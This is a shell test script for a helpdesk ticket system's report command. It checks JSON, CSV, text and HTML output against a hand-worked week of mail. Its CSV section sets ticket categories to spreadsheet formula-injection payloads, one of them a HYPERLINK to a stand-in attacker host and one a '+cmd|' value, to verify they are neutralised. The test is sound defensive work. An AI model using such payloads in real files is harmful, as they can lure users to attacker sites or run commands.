#!/bin/sh
# `tiketti report` on a fixed week of mail ingested under faketime, with
# autoreplies and surveys really sent (to smtp-sink) and answered: every
# figure of the JSON checked against what was worked out by hand below;
# the CSV parsed back (RFC 4180) to the same figures; the HTML rendered in
# headless Chromium, its DOM checked for every chart and table and a
# screenshot taken.
#
# The week (UTC), mailboxes support@ (S) and myynti@ (M), agents maria and
# jussi; autoreply on create (one per address per 24h), a survey when
# solved, follow-up after 1 day closed:
#   t1 11-02 09:00 S anna     maria answers 10:00 (1h), solves 12:00 (3h),
#                              closes 14:00; anna rates 5 at 13:00
#   t2 11-02 11:00 S bertta   maria answers 15:00 (4h), solves 11-03 11:00
#                              (24h); bertta rates 3 at 12:00, writes
#                              again 11-04 09:00 (reopen), maria solves
#                              10:00 (no second survey)
#   t3 11-02 16:00 S anna     (autoreply suppressed: rate-limit) stays new
#   t4 11-03 08:00 M cecilia  "Invoice" -> category billing; jussi answers
#                              08:30 (30 min); stays open
#   t5 11-05 10:00 S a shop's automatic mail (autoreply suppressed, and
#                              no survey: nobody wrote in person); jussi
#                              solves 11:00 (1h) without an answer
#   t6 11-06 09:00 S anna     a reply to closed t1: a follow-up ticket
. "${SRCDIR:-.}/tests/lib.sh"
. "$SRCDIR/tests/servers.sh"

need smtp-sink faketime python3
PIDS=
trap 'sink_down; [ -n "${TIKETTI_KEEP:-}" ] || rm -rf "$WORK"' EXIT
export TZ=UTC
chmod 711 "$WORK"	# smtp-sink runs as nobody
SPORT=$(freeport)
sink_up "$SPORT" "$WORK/sink"
mkdir -p "$WORK/rules" "$WORK/tmpl"
DB=$(db t)
cat >"$WORK/tiketti.conf" <<EOF
database = $DB
mailboxes = support@yritys.example, myynti@yritys.example
ticket_prefix = Tuki
secret = report-test-secret-0123456789
smtp_url = smtp://127.0.0.1:$SPORT
smtp_starttls = no
rules_dir = $WORK/rules
templates_dir = $WORK/tmpl
followup_after = 1d
autoreply_limit = 1
autoreply_window = 24h
trusted_authserv_id = mx.yritys.example

[agent maria]
address = maria@yritys.example

[agent jussi]
address = jussi@yritys.example
EOF
cat >"$WORK/rules/10.rules" <<'EOF'
rule "ack" { on create then autoreply "ack"; }
rule "billing" { on create if header :subject :contains "Invoice"
    then set category "billing"; }
rule "survey" { on status solved then csat; }
EOF
printf 'Subject: Thank you\n\nYour case is {{ticket.tag}}.\n' >"$WORK/tmpl/ack.txt"
printf 'Subject: How did we do?\n\n{{csat.links}}\n' >"$WORK/tmpl/csat.txt"

n=0
# send_at 'YYYY-MM-DD hh:mm' HEADERS BODY: ingests one message then.
send_at() {
	n=$((n + 1))
	printf '%s\nMessage-ID: <r%d@test.example>\nDate: %s\n\n%s\n' \
	    "$2" "$n" "$(date -d "$1" -R)" "$3" >"$WORK/m$n.eml"
	at "$1:00" "$TIKETTI" -c "$WORK/tiketti.conf" ingest "$WORK/m$n.eml" \
	    >>"$WORK/ingest.log" 2>&1 || echo "# ingest of m$n failed"
}
# answer WHO 'time' N: an agent's answer to the customer of ticket N;
# agent_cmd WHO 'time' N COMMAND: a command to the shared address.
customer_of() {
	sql_db "$DB" "select requester from tickets where id = $1"
}
answer() {
	send_at "$2" "Authentication-Results: mx.yritys.example; dkim=pass header.d=yritys.example
From: $1@yritys.example
To: $(customer_of "$3")
Cc: support@yritys.example
Subject: Re: [Tuki #$3]" "Hello, here is the answer."
}
agent_cmd() {
	send_at "$2" "Authentication-Results: mx.yritys.example; dkim=pass header.d=yritys.example
From: $1@yritys.example
To: support@yritys.example
Subject: [Tuki #$3]" "#$4"
}
# rate N R 'time': the customer of ticket N answers its survey with R.
rate() {
	_to=$(python3 - "$WORK/sink" "$1" "$2" <<'PY'
import email, os, re, sys
d, t, r = sys.argv[1:]
for f in sorted(os.listdir(d)):
    m = email.message_from_binary_file(open(os.path.join(d, f), "rb"))
    for p in m.walk():
        if p.get_content_type() == "text/plain":
            s = re.search(r"support\+csat-%s-%s-[0-9a-f]{16}@yritys\.example"
                          % (t, r), p.get_payload(decode=True).decode())
            if s:
                print(s.group(0))
                sys.exit(0)
PY
)
	[ -n "$_to" ] || echo "# no survey for ticket $1 in the sink"
	send_at "$3" "From: $(customer_of "$1")
To: $_to
Subject: Re: How did we do?" "Thanks"
}

send_at '2026-11-02 09:00' 'From: Anna <anna@asiakas.example>
To: support@yritys.example
Subject: Order 1 missing' 'Where is my order?'
answer maria '2026-11-02 10:00' 1
send_at '2026-11-02 11:00' 'From: Bertta <bertta@asiakas.example>
To: support@yritys.example
Subject: Delivery' 'When?'
agent_cmd maria '2026-11-02 12:00' 1 solve
rate 1 5 '2026-11-02 13:00'
agent_cmd maria '2026-11-02 14:00' 1 close
answer maria '2026-11-02 15:00' 2
send_at '2026-11-02 16:00' 'From: Anna <anna@asiakas.example>
To: support@yritys.example
Subject: Another order' 'And this one?'
send_at '2026-11-03 08:00' 'From: Cecilia <cecilia@asiakas.example>
To: myynti@yritys.example
Subject: Invoice question' 'Which invoice?'
answer jussi '2026-11-03 08:30' 4
agent_cmd maria '2026-11-03 11:00' 2 solve
rate 2 3 '2026-11-03 12:00'
send_at '2026-11-04 09:00' 'From: Bertta <bertta@asiakas.example>
To: support@yritys.example
Subject: Re: Delivery [Tuki #2]' 'Still nothing.'
agent_cmd maria '2026-11-04 10:00' 2 solve
send_at '2026-11-05 10:00' 'From: Shop <orders@shop.example>
To: support@yritys.example
Auto-Submitted: auto-generated
Subject: Order confirmation' 'Your order is confirmed.'
agent_cmd jussi '2026-11-05 11:00' 5 solve
send_at '2026-11-06 09:00' 'From: Anna <anna@asiakas.example>
To: support@yritys.example
Subject: Re: Order 1 missing [Tuki #1]' 'It came broken.'

sql() { sql_db "$DB" "$1"; }
is "the week: six tickets as planned" \
    "$(sql "select id || ':' || status || ':' || coalesce(category, '') || ':' || coalesce(cast(parent as text), '') from tickets order by id" | tr '\n' ' ' | sed 's/ $//')" \
    "1:closed:: 2:solved:: 3:new:: 4:open:billing: 5:solved:: 6:new::1"
check "nothing went wrong ingesting" sh -c "! grep -i 'fail\|error' '$WORK/ingest.log'"

report() {
	at '2026-11-09 00:00:00' "$TIKETTI" -c "$WORK/tiketti.conf" report \
	    --since 2026-11-02 --until 2026-11-08 "$@"
}
report --format json >"$WORK/r.json" 2>"$WORK/err"
is "report --format json: exit 0" "$?" 0
j() { json "$1" <"$WORK/r.json"; }

# ---- backlog: t4 open, t3 and t6 new; the oldest is t3, 6d 8h old ----
is "backlog open" "$(j 'd["backlog"]["open"]')" 3
is "backlog by status" "$(j 'd["backlog"]["by_status"]')" '{"new": 2, "open": 1}'
is "backlog by priority" "$(j 'd["backlog"]["by_priority"]')" '{"normal": 3}'
is "backlog by assignee" "$(j 'd["backlog"]["by_assignee"]')" '{"": 3}'
is "oldest open ticket and its age" \
    "$(j '[d["backlog"]["oldest"][k] for k in ("id", "age")]')" "[3, $((6 * 86400 + 8 * 3600))]"

# ---- volume ----
is "volume per day: created, solved, reopened" \
    "$(j '[(v["day"][5:], v["created"], v["solved"], v["reopened"]) for v in d["volume_by_day"]]')" \
    '[["11-02", 3, 1, 0], ["11-03", 1, 1, 0], ["11-04", 0, 1, 1], ["11-05", 1, 1, 0], ["11-06", 1, 0, 0], ["11-07", 0, 0, 0], ["11-08", 0, 0, 0]]'
is "volume by day, mailbox and category" \
    "$(j '[(v["day"][5:], v["mailbox"][:2], v["category"], v["created"], v["solved"], v["reopened"]) for v in d["volume"]]')" \
    '[["11-02", "su", "", 3, 1, 0], ["11-03", "my", "billing", 1, 0, 0], ["11-03", "su", "", 0, 1, 0], ["11-04", "su", "", 0, 1, 1], ["11-05", "su", "", 1, 1, 0], ["11-06", "su", "", 1, 0, 0]]'

# ---- first response: 1800, 3600, 14400 (t3, t5, t6 none) ----
fr() { j "[d['first_response']$1[k] for k in ('n', 'median', 'p90', 'max')]"; }
is "first response, all: n, median, p90, max" "$(fr '["all"]')" "[3, 3600, 14400, 14400]"
is "first response, support@" "$(fr '["by_mailbox"]["support@yritys.example"]')" "[2, 3600, 14400, 14400]"
is "first response, myynti@" "$(fr '["by_mailbox"]["myynti@yritys.example"]')" "[1, 1800, 1800, 1800]"
is "first response, category billing" "$(fr '["by_category"]["billing"]')" "[1, 1800, 1800, 1800]"
is "first response, no category" "$(fr '["by_category"][""]')" "[2, 3600, 14400, 14400]"
is "first response, maria" "$(fr '["by_agent"]["maria"]')" "[2, 3600, 14400, 14400]"
is "first response, jussi" "$(fr '["by_agent"]["jussi"]')" "[1, 1800, 1800, 1800]"
is "first response histogram" \
    "$(j '[b["count"] for b in d["first_response"]["histogram"]]')" "[1, 1, 1, 0, 0, 0]"

# ---- resolution: 3600, 10800, 86400 ----
rs() { j "[d['resolution']$1[k] for k in ('n', 'median', 'p90', 'max')]"; }
is "resolution, all" "$(rs '["all"]')" "[3, 10800, 86400, 86400]"
is "resolution, maria" "$(rs '["by_agent"]["maria"]')" "[2, 10800, 86400, 86400]"
is "resolution, jussi" "$(rs '["by_agent"]["jussi"]')" "[1, 3600, 3600, 3600]"
is "resolution, support@" "$(rs '["by_mailbox"]["support@yritys.example"]')" "[3, 10800, 86400, 86400]"
is "resolution, only support@ solved anything" "$(j 'sorted(d["resolution"]["by_mailbox"])')" '["support@yritys.example"]'

# ---- reopens, follow-ups, customers ----
is "reopens: solved, reopened, rate, follow-ups" \
    "$(j '[d["reopens"][k] for k in ("solved", "reopened", "rate", "followups")]')" "[3, 1, 0.3333, 1]"
is "customers: tickets, customers, repeat, per customer" \
    "$(j '[d["customers"][k] for k in ("tickets", "customers", "repeat_customers", "tickets_per_customer")]')" "[6, 4, 1, 1.5]"

# ---- CSAT: two surveys (t5's shop got none), answered 5 and 3 ----
is "no survey to automatic mail's sender" \
    "$(sql "select new from events where type = 'autoreply_suppressed' and old = 'csat' and ticket_id = 5")" no-customer-mail
is "csat: sent, answers, response rate, average" \
    "$(j '[d["csat"][k] for k in ("sent", "answers", "response_rate", "average")]')" "[2, 2, 1, 4]"
is "csat distribution" "$(j 'd["csat"]["distribution"]')" '{"1": 0, "2": 0, "3": 1, "4": 0, "5": 1}'

# ---- autoreplies: t1, t2, t4, t6 sent; t3 rate-limited; t5 a robot ----
is "autoreplies sent and suppressed" \
    "$(j '[d["autoreplies"]["sent"], d["autoreplies"]["suppressed"]]')" "[4, 2]"
is "suppressed by reason" "$(j 'sorted(d["autoreplies"]["suppressed_by_reason"].items())')" \
    "$(sql "select '[[\"' || new || '\", 1], [\"rate-limit\", 1]]' from events where type = 'autoreply_suppressed' and old = 'autoreply' and ticket_id = 5")"
is "... t5's reason is about automatic mail" \
    "$(sql "select count(*) from events where type = 'autoreply_suppressed' and old = 'autoreply' and ticket_id = 5 and new not in ('rate-limit', 'no-address')")" 1

# ---- the period and --mailbox ----
report --format json --mailbox myynti@yritys.example >"$WORK/m.json"
is "--mailbox: only myynti@'s ticket" \
    "$(json '[d["customers"]["tickets"], d["backlog"]["open"], d["first_response"]["all"]["n"], d["autoreplies"]["sent"]]' <"$WORK/m.json")" "[1, 1, 1, 1]"
at '2026-11-09 00:00:00' "$TIKETTI" -c "$WORK/tiketti.conf" report \
    --since 2026-11-04 --until 2026-11-05 --format json >"$WORK/p.json"
is "a shorter period: t5 created, t2 and t5 solved, t2 reopened" \
    "$(json '[d["customers"]["tickets"], d["reopens"]["solved"], d["reopens"]["reopened"], len(d["volume_by_day"])]' <"$WORK/p.json")" "[1, 2, 1, 2]"
is "an empty period is refused (64)" \
    "$(exitcode "$TIKETTI" -c "$WORK/tiketti.conf" report --since 2026-11-05 --until 2026-11-04)" 64
is "a bad date is refused (64)" \
    "$(exitcode "$TIKETTI" -c "$WORK/tiketti.conf" report --since 5.11.2026)" 64

# ---- CSV: RFC 4180, parsed back to the same figures ----
report --format csv -o "$WORK/r.csv"
is "report --format csv -o FILE: exit 0" "$?" 0
is "CSV header row" "$(head -1 "$WORK/r.csv" | tr -d '\r')" "section,dimension,key,day,metric,value"
check "CSV lines end in CRLF" sh -c "! grep -qv \"$(printf '\r')\$\" '$WORK/r.csv'"
is "CSV parsed back gives the JSON's figures" "$(python3 - "$WORK/r.csv" "$WORK/r.json" <<'PY'
import csv, json, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
d = json.load(open(sys.argv[2]))
v = {(r["section"], r["dimension"], r["key"], r["day"], r["metric"]): r["value"] for r in rows}
bad = []
def want(k, x):
    if v.get(k) != str(x):
        bad.append("%s: %r != %r" % (k, v.get(k), x))
want(("backlog", "", "", "", "open"), d["backlog"]["open"])
want(("first_response", "agent", "maria", "", "p90"), d["first_response"]["by_agent"]["maria"]["p90"])
want(("resolution", "all", "", "", "median"), d["resolution"]["all"]["median"])
want(("volume", "mailbox/category", "myynti@yritys.example/billing", "2026-11-03", "created"), 1)
want(("reopens", "", "", "", "rate"), "0.3333")
want(("csat", "rating", "5", "", "answers"), 1)
want(("autoreplies", "reason", "rate-limit", "", "suppressed"), 1)
print("; ".join(bad) or "ok")
PY
)" ok

# A category a spreadsheet would take for a formula stays text (the
# first-response figures by category start a cell with it).
printf 'database = %s\ntrusted_authserv_id = mx.yritys.example\n[agent maria]\naddress = maria@yritys.example\n' \
    "$(db inj)" >"$WORK/inj.conf"
i=0
for c in '=HYPERLINK("http://evil.example/?x","Click")' '@SUM(1+1)' '+cmd|x' '-2+3'; do
	i=$((i + 1))
	printf 'From: f%d@asiakas.example\nTo: support@yritys.example\nSubject: x\nMessage-ID: <c%d@x>\n\nx\n' "$i" "$i" |
	    "$TIKETTI" -c "$WORK/inj.conf" ingest 2>/dev/null
	"$TIKETTI" -c "$WORK/inj.conf" ticket set "$i" category "$c"
	printf 'Authentication-Results: mx.yritys.example; dkim=pass header.d=yritys.example\nFrom: maria@yritys.example\nTo: f%d@asiakas.example\nSubject: Re: x\nIn-Reply-To: <c%d@x>\nMessage-ID: <a%d@x>\n\nvastaus\n' "$i" "$i" "$i" |
	    "$TIKETTI" -c "$WORK/inj.conf" ingest 2>/dev/null
done
"$TIKETTI" -c "$WORK/inj.conf" report --format csv -o "$WORK/inj.csv"
is "CSV: cells starting with = @ + - are inert (a ' before, quoted)" "$(python3 - "$WORK/inj.csv" <<'PY'
import csv, sys
print(" ".join(sorted(r["key"] for r in csv.DictReader(open(sys.argv[1], newline=""))
                      if r["section"] == "first_response" and r["dimension"] == "category"
                      and r["metric"] == "n")))
PY
)" "'+cmd|x '-2+3 '=HYPERLINK(\"http://evil.example/?x\",\"Click\") '@SUM(1+1)"
check "... and quoted in the file" grep -q "^first_response,category,\"'=HYPERLINK" "$WORK/inj.csv"

# ---- text ----
report >"$WORK/r.txt"
check "text: the backlog line" grep -q "^Backlog now: 3 open" "$WORK/r.txt"
check "text: maria's first response" grep -Eq "^  agent +maria +2 +1h 00m +4h 00m +4h 00m" "$WORK/r.txt"

# ---- HTML in Chromium ----
report --format html -o "$WORK/r.html"
is "report --format html: exit 0" "$?" 0
check "HTML fetches nothing and runs no script" \
    sh -c "! grep -Eiq '<script|<link|src=|@import|url\\(' '$WORK/r.html'"
CHROMIUM=$(command -v chromium || command -v chromium-browser || :)
if [ -z "$CHROMIUM" ]; then
	not_ok "chromium not found (sh contrib/deps.sh --test installs it)"
else
	chrome() {
		timeout 60 "$CHROMIUM" --headless --no-sandbox --disable-gpu \
		    --no-first-run --disable-background-networking \
		    --user-data-dir="$WORK/chrome" "$@" 2>>"$WORK/chrome.log"
	}
	chrome --dump-dom "file://$WORK/r.html" >"$WORK/dom.html"
	is "Chromium's DOM has every chart and table" "$(python3 - "$WORK/dom.html" <<'PY'
import sys
from html.parser import HTMLParser
want = {"svg": ["chart-backlog", "chart-volume", "chart-response", "chart-csat"],
        "table": ["table-backlog-status", "table-backlog-priority",
                  "table-backlog-assignee", "table-volume",
                  "table-first_response", "table-resolution",
                  "table-reopens", "table-csat", "table-autoreplies"]}
seen, bars = set(), 0
class P(HTMLParser):
    def handle_starttag(self, tag, attrs):
        global bars
        a = dict(attrs)
        if tag in want and a.get("id") in want[tag]:
            seen.add(a["id"])
        if tag == "rect" and a.get("class") == "bar":
            bars += 1
P().feed(open(sys.argv[1]).read())
missing = [i for t in want.values() for i in t if i not in seen]
print("missing: " + " ".join(missing) if missing else "all there, %d bars" % bars)
PY
)" "all there, 34 bars"
	chrome --screenshot="$WORK/r.png" --window-size=900,2400 \
	    "file://$WORK/r.html" >/dev/null
	check "Chromium took a screenshot of it" test -s "$WORK/r.png"
	check "the screenshot is not blank" python3 - "$WORK/r.png" <<'PY'
import sys, zlib, struct
data = open(sys.argv[1], "rb").read()
assert data[:8] == b"\x89PNG\r\n\x1a\n"
# Distinct byte values in the image data: a blank page has a handful.
idat = b"".join(data[i + 8:i + 8 + struct.unpack(">I", data[i:i + 4])[0]]
                for i in range(8, len(data)) if data[i + 4:i + 8] == b"IDAT")
raw = zlib.decompress(idat)
assert len(set(raw)) > 50, len(set(raw))
PY
	[ -n "${TIKETTI_KEEP_SCREENSHOT:-}" ] && cp "$WORK/r.png" "$TIKETTI_KEEP_SCREENSHOT"
fi

done_testing
